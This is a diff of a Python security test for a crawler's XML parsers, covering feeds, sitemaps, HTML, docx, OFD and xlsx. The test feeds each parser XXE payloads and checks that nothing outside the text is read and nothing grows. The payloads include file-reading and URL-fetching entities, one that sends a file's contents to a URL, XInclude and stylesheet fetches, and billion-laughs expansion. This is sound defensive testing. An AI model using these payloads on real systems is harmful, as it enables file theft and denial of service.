@@ -41,41 +41,83 @@ def parts_of(body):
 SHEET = parts_of(an_xlsx(a=[["x"]]))
 OFD = {"OFD.xml": "<OFD><DocBody><DocRoot>D/Document.xml</DocRoot></DocBody></OFD>"}
 PARSERS = {
-    "feed": (listing("feed"), "rss",
-             f'<rss version="2.0" {XI}><channel><item><title>%s</title><link>{LINK}</link></item></channel></rss>'),
-    "atom": (listing("feed"), "feed", f'<feed xmlns="http://www.w3.org/2005/Atom" {XI}><entry><title>%s</title>'
-             f'<link href="{LINK}"/></entry></feed>'),
-    "sitemap": (listing("sitemap"), "urlset", '<urlset xmlns:n="http://www.google.com/schemas/sitemap-news/0.9" '
-                f'{XI}><url><loc>{LINK}</loc><n:news><n:title>%s</n:title></n:news></url></urlset>'),
+    "feed": (
+        listing("feed"),
+        "rss",
+        f'<rss version="2.0" {XI}><channel><item><title>%s</title><link>{LINK}</link></item></channel></rss>',
+    ),
+    "atom": (
+        listing("feed"),
+        "feed",
+        f'<feed xmlns="http://www.w3.org/2005/Atom" {XI}><entry><title>%s</title><link href="{LINK}"/></entry></feed>',
+    ),
+    "sitemap": (
+        listing("sitemap"),
+        "urlset",
+        '<urlset xmlns:n="http://www.google.com/schemas/sitemap-news/0.9" '
+        f"{XI}><url><loc>{LINK}</loc><n:news><n:title>%s</n:title></n:news></url></urlset>",
+    ),
     "listing": (listing("html"), "html", f'<html {XI}><body><ul><li><a href="{LINK}">%s</a></li></ul></body></html>'),
-    "notice": (lambda body: read(a_page(body), None, a_source()).text, "html",
-               f"<html {XI}><body><h1>通知</h1><p>%s</p></body></html>"),
-    "docx": (file_of({}, "word/document.xml"), "w:document",
-             f"<w:document {W} {XI}><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"),
-    "ofd": (file_of(OFD, "D/Document.xml"), "Document",
-            f"<Document {XI}><Pages><Page BaseLoc='%s'/></Pages></Document>"),
-    "xlsx": (file_of(SHEET, "xl/worksheets/sheet1.xml"), "worksheet", f'<worksheet {XL} {XI}><sheetData><row r="1">'
-             '<c r="A1" t="inlineStr"><is><t>%s</t></is></c></row></sheetData></worksheet>'),
-}  # fmt: skip
+    "notice": (
+        lambda body: read(a_page(body), None, a_source()).text,
+        "html",
+        f"<html {XI}><body><h1>通知</h1><p>%s</p></body></html>",
+    ),
+    "docx": (
+        file_of({}, "word/document.xml"),
+        "w:document",
+        f"<w:document {W} {XI}><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>",
+    ),
+    "ofd": (
+        file_of(OFD, "D/Document.xml"),
+        "Document",
+        f"<Document {XI}><Pages><Page BaseLoc='%s'/></Pages></Document>",
+    ),
+    "xlsx": (
+        file_of(SHEET, "xl/worksheets/sheet1.xml"),
+        "worksheet",
+        f'<worksheet {XL} {XI}><sheetData><row r="1">'
+        '<c r="A1" t="inlineStr"><is><t>%s</t></is></c></row></sheetData></worksheet>',
+    ),
+}
 ATTACKS = {
     "entity of a file": ('<!DOCTYPE {root} [<!ENTITY x SYSTEM "{file}">]>', "&x;"),
     "entity of an address": ('<!DOCTYPE {root} [<!ENTITY x PUBLIC "p" "{url}">]>', "&x;"),
     "parameter entity": ('<!DOCTYPE {root} [<!ENTITY % p SYSTEM "{url}"> %p;]>', "a"),
-    "file into an address": ('<!DOCTYPE {root} [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY x SYSTEM '
-                             "'{url}?%f;'>\"> %e;]>", "&x;"),
+    "file into an address": (
+        '<!DOCTYPE {root} [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY x SYSTEM \'{url}?%f;\'>"> %e;]>',
+        "&x;",
+    ),
     "external definition": ('<!DOCTYPE {root} SYSTEM "{url}">', "&x;"),
     "external definition of a file": ('<!DOCTYPE {root} PUBLIC "p" "{file}">', "&x;"),
     "XInclude of a file": ("", '<xi:include href="{file}" parse="text"/>'),
     "XInclude of an address": ("", '<xi:include href="{url}"/>'),
     "stylesheet": ('<?xml-stylesheet type="text/xsl" href="{url}"?>', "a"),
-    "entities of entities": ('<!DOCTYPE {root} [<!ENTITY e0 "boom">' + "".join(
-        f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)) + "]>", "&e11;"),
+    "entities of entities": (
+        '<!DOCTYPE {root} [<!ENTITY e0 "boom">'
+        + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
+        + "]>",
+        "&e11;",
+    ),
     "one long entity, often": (f'<!DOCTYPE {{root}} [<!ENTITY e "{"boom" * 2500}">]>', "&e;" * 5000),
     "an entity of itself": ('<!DOCTYPE {root} [<!ENTITY e "&e;">]>', "&e;"),
-}  # fmt: skip
-MAKERS = {"XMLParser", "XMLPullParser", "fromstring", "XML", "iterparse", "parse_xml", "ElementTree", "xinclude",
-          "XSLT", "XInclude", "minidom", "sax", "expat"}  # fmt: skip
-KNOWN = {"files/zips.py", "listings/sitemap.py", "selectors.py"}
+}
+MAKERS = {
+    "XMLParser",
+    "XMLPullParser",
+    "fromstring",
+    "XML",
+    "iterparse",
+    "parse_xml",
+    "ElementTree",
+    "xinclude",
+    "XSLT",
+    "XInclude",
+    "minidom",
+    "sax",
+    "expat",
+}
+KNOWN = {"files/zips.py", "listings/sitemap.py", "model/selectors.py"}
 """Modules that make a parser of XML, each with its rows above; the third parses an empty page of our own."""
 
 
@@ -96,8 +138,10 @@ def outside(tmp_path_factory):
 def test_nothing_outside_the_text_is_read_and_nothing_grows(outside, parser, attack):
     places, server = outside
     parse, root, frame = PARSERS[parser]
-    head, inside = (part.replace("{root}", root).replace("{file}", places["file"]).replace("{url}", places["url"])
-                    for part in ATTACKS[attack])  # fmt: skip
+    head, inside = (
+        part.replace("{root}", root).replace("{file}", places["file"]).replace("{url}", places["url"])
+        for part in ATTACKS[attack]
+    )
     found = ""
     with suppress(CrawlerError):
         found = parse('<?xml version="1.0" encoding="UTF-8"?>' + head + frame % inside)
